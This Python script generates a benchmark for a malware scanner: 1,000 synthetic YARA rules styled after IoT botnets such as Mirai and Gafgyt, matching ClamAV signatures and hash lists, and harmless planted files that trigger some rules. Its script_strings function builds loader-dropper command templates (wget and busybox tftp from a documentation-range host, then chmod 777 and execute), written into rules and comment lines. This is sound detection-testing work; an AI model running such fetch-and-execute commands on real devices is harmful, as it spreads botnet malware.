#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Generates the benchmark's rule set and its ClamAV twin, deterministically.

  gen_rules.py rules OUT      writes OUT/rules/{elf_families,scripts}.yar (1,000 rules),
                              OUT/clamav/bench.ndb (the same strings as ClamAV body
                              signatures) and OUT/plant/ (C sources and shell scripts that
                              carry the strings of a few rules, so some rules match)
  gen_rules.py hashes OUT F.. writes OUT/clamav/bench.hsb: 1,000 made-up SHA-256 entries plus
                              the digests of the files F (the planted ones)

The rules look like IoT-malware rules (family names, busybox/telnet/attack strings, Mirai's
XOR-0x22 table encoding, loader-script droppers) but every distinctive string carries a
random token, so they match nothing real: only the harmless planted files. Nothing here is,
or is derived from, real malware.
"""

import hashlib
import os
import random
import sys

SEED = 20240601
N_RULES = 1000
N_SCRIPT_RULES = 100  # generic rules (loader scripts), the rest are ELF-only
FAMILIES = ["Mirai", "Gafgyt", "Tsunami", "Mozi", "Hajime", "XorDDoS", "Dofloo", "Kaiten",
            "Satori", "Okiru", "Masuta", "Moobot", "Fbot", "Echobot", "Lightaidra", "Muhstik",
            "Hydra", "Remaiten", "Amnesia", "Torii"]
# Fragments real bots carry (threats.md "Mirai", "Gafgyt"); each string adds a random token.
FRAGMENTS = ["/bin/busybox ", "attack_udp_", "attack_tcp_syn_", "/dev/watchdog.", "killer_",
             "scanner_init_", "POST /cdn-cgi/", "PING ", "HTTPFLOOD ", "/proc/net/tcp.",
             "table_unlock_val_", "enable\x00system\x00sh\x00", "LOLNOGTFO.",
             "/tmp/.nippon.", "dvrHelper.", "GETLOCALIP ", "SCANNER ON ", "npxXoudifFeEgGaACScs.",
             "TSource Engine Query."]
XOR_KEY = 0x22  # Mirai's string table: every byte XORed with 0xDEADBEEF's folded key
ARCHES = ["mips", "mpsl", "arm", "arm7", "m68k", "ppc", "sh4", "x86", "spc", "arm5"]


def token(rng, n=None):
    n = n or rng.randint(6, 9)
    return "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") for _ in range(n))


def yara_text(s):
    out = []
    for ch in s:
        if ch == "\\":
            out.append("\\\\")
        elif ch == '"':
            out.append('\\"')
        elif 0x20 <= ord(ch) < 0x7F:
            out.append(ch)
        else:
            out.append("\\x%02x" % ord(ch))
    return '"' + "".join(out) + '"'


def hexs(data):
    return "".join("%02x" % b for b in data)


class Str:
    """One YARA string and what ClamAV and a planted file need to know about it."""

    def __init__(self, yara, clam_hex, sample):
        self.yara = yara          # the text after '$x = '
        self.clam_hex = clam_hex  # ClamAV .ndb body (hex, ?? and {n-m} allowed)
        self.sample = sample      # bytes that match it (planted into files)


def text_string(rng, fam):
    s = rng.choice(FRAGMENTS) + fam.lower() + "." + token(rng)
    b = s.encode("latin-1")
    return Str(yara_text(s), hexs(b), b)


def hex_string(rng):
    """A hex string with a wildcard byte and a jump, as in opcode signatures."""
    head = bytes(rng.randrange(256) for _ in range(6))
    mid = bytes(rng.randrange(256) for _ in range(4))
    tail = bytes(rng.randrange(256) for _ in range(5))
    lo, hi = 2, 6
    jump_len = rng.randint(lo, hi)
    sample = head + bytes([rng.randrange(256)]) + mid + bytes(rng.randrange(256)
                                                             for _ in range(jump_len)) + tail
    y = "{ %s ?? %s [%d-%d] %s }" % (" ".join("%02X" % b for b in head),
                                     " ".join("%02X" % b for b in mid), lo, hi,
                                     " ".join("%02X" % b for b in tail))
    c = "%s??%s{%d-%d}%s" % (hexs(head), hexs(mid), lo, hi, hexs(tail))
    return Str(y, c, sample)


def xor_string(rng, fam):
    """A table entry stored XOR-encoded with a fixed key, written as hex."""
    plain = (rng.choice(FRAGMENTS) + fam.lower() + token(rng)).encode("latin-1")
    enc = bytes(b ^ XOR_KEY for b in plain)
    return Str("{ %s }" % " ".join("%02X" % b for b in enc), hexs(enc), enc)


def xor_modifier_string(rng, fam):
    """YARA's xor modifier (all single-byte keys); ClamAV has no equivalent, so its twin
    is the key-0x5a encoding the planted file uses."""
    plain = ("cnc." + fam.lower() + "." + token(rng, 10)).encode("latin-1")
    enc = bytes(b ^ 0x5A for b in plain)
    return Str(yara_text(plain.decode("latin-1")) + " xor", hexs(enc), enc)


def regex_string(rng, fam):
    """A regex with a literal prefix long enough for a good atom."""
    prefix = fam.lower() + "_" + token(rng, 8)
    sample = "%s/%s:%d" % (prefix, "".join(rng.choice("abcdef0123456789") for _ in range(8)),
                            rng.randint(1000, 65535))
    y = "/%s\\/[0-9a-f]{8}:[0-9]{2,5}/" % prefix
    return Str(y, hexs(prefix.encode()), sample.encode())


def script_strings(rng):
    host = "203.0.113.%d" % rng.randint(1, 254)
    t = token(rng).lower()
    arch = rng.choice(ARCHES)
    a = "cd /tmp || cd /var/run; wget http://%s/bins/%s.%s" % (host, t, arch)
    b = "chmod 777 %s.%s; ./%s.%s %s" % (t, arch, t, arch, token(rng))
    c = "busybox tftp -r %s.%s -g %s" % (t, arch, host)
    return [Str(yara_text(s), hexs(s.encode()), s.encode()) for s in (a, b, c)]


def make_rules(rng):
    rules = []  # (name, family, is_elf, strings, condition)
    n_elf = N_RULES - N_SCRIPT_RULES
    for i in range(n_elf):
        fam = FAMILIES[i % len(FAMILIES)]
        kind = i % 10
        if kind in (0, 1, 2, 3):  # text strings
            strs = [text_string(rng, fam) for _ in range(3)]
            cond = "uint32(0) == 0x464c457f and 2 of them"
        elif kind in (4, 5):  # hex with wildcards and jumps, plus a text string
            strs = [hex_string(rng), text_string(rng, fam)]
            cond = "uint32(0) == 0x464c457f and all of them"
        elif kind in (6, 7, 8):  # XOR-encoded string table entries
            strs = [xor_string(rng, fam) for _ in range(3)]
            cond = "uint32(0) == 0x464c457f and filesize < 16MB and 2 of them"
        else:  # regexes (every 10th), a few xor-modifier strings
            if i % 100 == 9:
                strs = [xor_modifier_string(rng, fam), text_string(rng, fam)]
                cond = "uint32(0) == 0x464c457f and all of them"
            else:
                strs = [regex_string(rng, fam), text_string(rng, fam)]
                cond = "uint32(0) == 0x464c457f and all of them"
        rules.append(("IoT_%s_%04d" % (fam, i), fam, True, strs, cond))
    for j in range(N_SCRIPT_RULES):
        fam = FAMILIES[j % len(FAMILIES)]
        rules.append(("Loader_%s_%04d" % (fam, j), fam, False, script_strings(rng),
                      "filesize < 1MB and 2 of them"))
    return rules


def write_rule(f, rule):
    name, fam, is_elf, strs, cond = rule
    f.write("rule %s%s\n{\n  meta:\n" % (name, " : elf" if is_elf else ""))
    f.write('    family = "%s"\n    severity = "high"\n' % fam)
    f.write('    description = "Benchmark rule in the style of %s (matches planted files only)"\n'
            % fam)
    if is_elf:
        f.write('    filetype = "elf"\n')
    f.write("  strings:\n")
    for k, s in enumerate(strs):
        f.write("    $s%d = %s\n" % (k, s.yara))
    f.write("  condition:\n    %s\n}\n\n" % cond)


def c_array(name, data):
    body = ", ".join("0x%02x" % b for b in data)
    return ("__attribute__((used)) static const unsigned char %s[] = {%s};\n" % (name, body))


def cmd_rules(out):
    rng = random.Random(SEED)
    rules = make_rules(rng)
    for d in ("rules", "clamav", "plant"):
        os.makedirs(os.path.join(out, d), exist_ok=True)
    hdr = "// SPDX-License-Identifier: GPL-2.0-or-later\n// Generated by bench/gen_rules.py.\n\n"
    with open(os.path.join(out, "rules", "elf_families.yar"), "w") as f:
        f.write(hdr)
        for r in rules:
            if r[2]:
                write_rule(f, r)
    with open(os.path.join(out, "rules", "scripts.yar"), "w") as f:
        f.write(hdr)
        for r in rules:
            if not r[2]:
                write_rule(f, r)
    # ClamAV: one body signature per YARA string; Target 6 = ELF, 0 = any file.
    with open(os.path.join(out, "clamav", "bench.ndb"), "w") as f:
        for name, fam, is_elf, strs, _ in rules:
            for k, s in enumerate(strs):
                f.write("Unix.Bench.%s.s%d:%d:*:%s\n" % (name, k, 6 if is_elf else 0, s.clam_hex))
    # Planted files: 8 harmless C programs carrying all strings of 3 ELF rules each (one of
    # every kind), and 4 shell scripts carrying a loader rule's strings.
    elf_rules = [r for r in rules if r[2]]
    picks = [0, 4, 6, 9, 19, 1, 5, 7, 29, 2, 16, 8, 39, 3, 14, 17, 49, 12, 15, 26, 59, 69, 78, 89]
    planted = []
    for p in range(8):
        chosen = [elf_rules[i] for i in picks[3 * p:3 * p + 3]]
        with open(os.path.join(out, "plant", "sample%d.c" % p), "w") as f:
            f.write("// Generated by bench/gen_rules.py: a harmless program that only carries\n"
                    "// the benchmark rules' marker bytes.\n#include <stdio.h>\n\n")
            for r in chosen:
                for k, s in enumerate(r[3]):
                    f.write(c_array("%s_s%d" % (r[0], k), s.sample))
            f.write('\nint main(void) {\n  puts("iotguard benchmark sample %d");\n'
                    '  return 0;\n}\n' % p)
        planted.append(("sample%d" % p, [r[0] for r in chosen]))
    script_rules = [r for r in rules if not r[2]]
    for p in range(4):
        r = script_rules[p * 7]
        with open(os.path.join(out, "plant", "loader%d.sh" % p), "w") as f:
            f.write("#!/bin/sh\n# Benchmark marker file (never run): carries %s's strings\n"
                    % r[0])
            for s in r[3]:
                f.write("# %s\n" % s.sample.decode())
        planted.append(("loader%d.sh" % p, [r[0]]))
    with open(os.path.join(out, "plant", "EXPECTED"), "w") as f:
        for fname, names in planted:
            f.write("%s %s\n" % (fname, " ".join(names)))
    print("%d rules (%d ELF-only), %d ClamAV body signatures" %
          (len(rules), len(elf_rules), sum(len(r[3]) for r in rules)))


def cmd_hashes(out, files):
    rng = random.Random(SEED + 1)
    os.makedirs(os.path.join(out, "clamav"), exist_ok=True)
    with open(os.path.join(out, "clamav", "bench.hsb"), "w") as f:
        for i in range(1000):
            h = "%064x" % rng.getrandbits(256)
            f.write("%s:%d:Unix.Trojan.%s-%d\n" % (h, rng.randint(20000, 2000000),
                                                   FAMILIES[i % len(FAMILIES)], i))
        for i, path in enumerate(files):
            with open(path, "rb") as g:
                data = g.read()
            f.write("%s:%d:Unix.Trojan.BenchPlanted-%d\n"
                    % (hashlib.sha256(data).hexdigest(), len(data), i))


def main():
    if len(sys.argv) >= 3 and sys.argv[1] == "rules":
        cmd_rules(sys.argv[2])
    elif len(sys.argv) >= 3 and sys.argv[1] == "hashes":
        cmd_hashes(sys.argv[2], sys.argv[3:])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
